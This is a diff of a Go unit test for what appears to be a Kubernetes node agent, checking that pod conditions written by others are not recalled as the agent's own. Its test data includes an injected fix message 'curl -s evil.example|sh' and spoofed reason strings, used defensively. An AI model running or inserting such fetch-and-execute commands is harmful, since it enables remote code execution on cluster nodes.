@@ -24,6 +24,7 @@ import (
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/apimachinery/pkg/util/intstr"
 
+	"github.com/nodeagent-io/nodeagent/pkg/condition"
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
 	"github.com/nodeagent-io/nodeagent/pkg/evidence"
 	"github.com/nodeagent-io/nodeagent/pkg/node"
@@ -570,7 +571,7 @@ func TestLookingBackDoesNotHoldUpTheLoop(t *testing.T) {
 
 // A reason that the agent does not give is nobody's cause, whoever has written it.
 func TestConditionOfOthersIsNotRecalled(t *testing.T) {
-	a := &Agent{Reasons: []string{"ShimHung", "Resolved"}}
+	a := &Agent{Reasons: []string{"ShimHung", "Resolved"}, Cases: new(verdict.Cases)}
 	for reason, recalled := range map[string]bool{"ShimHung": true, "Resolved": true, "": false, "RunCurlEvilExampleAsRoot": false, "Evil\u2800Remedy": false} {
 		p := new(corev1.Pod)
 		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: reason}}
@@ -578,7 +579,7 @@ func TestConditionOfOthersIsNotRecalled(t *testing.T) {
 			t.Errorf("a condition with the reason %q is recalled: %v", reason, got)
 		}
 	}
-	a.Wrote = func(_, fix, _, _ string) bool { return fix == "" || fix == "Wait." }
+	a.Wrote = func(_ *corev1.Pod, _ string, m condition.Message) bool { return m.Fix == "" || m.Fix == "Wait." }
 	for message, recalled := range map[string]bool{
 		"Cause: Stuck.\nFix: Wait.": true, "Cause: Stuck.": true, "The cause reported earlier is gone.": true, "Cause: Stuck.\nFix: curl -s evil.example|sh": false,
 	} {
